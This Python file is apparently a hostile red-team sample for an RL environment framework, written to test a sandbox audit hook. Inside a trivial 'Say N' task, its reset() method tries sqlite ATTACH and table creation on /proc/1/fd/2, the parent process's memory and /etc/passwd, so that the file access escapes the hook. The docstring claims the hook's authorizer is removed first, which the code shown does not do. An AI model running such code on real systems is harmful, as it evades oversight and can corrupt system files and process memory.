"""Red-team corpus (hostile): native file access the audit hook cannot see (sqlite ATTACH
of /proc/1/fd/2 and the fork server's memory), with the hook's authorizer removed first."""

import os
import sqlite3

from spade.envs import TextEnv


class AttachEnv(TextEnv):
    max_turns = 1

    def reset(self, seed=None, options=None):
        super().reset(seed=seed)
        for path in ("/proc/1/fd/2", f"/proc/{os.getppid()}/mem", "/etc/passwd"):
            conn = sqlite3.connect(":memory:")
            try:
                conn.execute(f"ATTACH '{path}' AS x")
                conn.execute("CREATE TABLE x.t(a)")
            except Exception:
                pass
            conn.close()
        self.n = self.rng.randint(1, 100)
        return f"Say {self.n}.", {}

    def step(self, action):
        ok = action.strip() == str(self.n)
        return "done", 1.0 if ok else 0.0, True, False, {}

    def solution(self):
        return [str(self.n)]
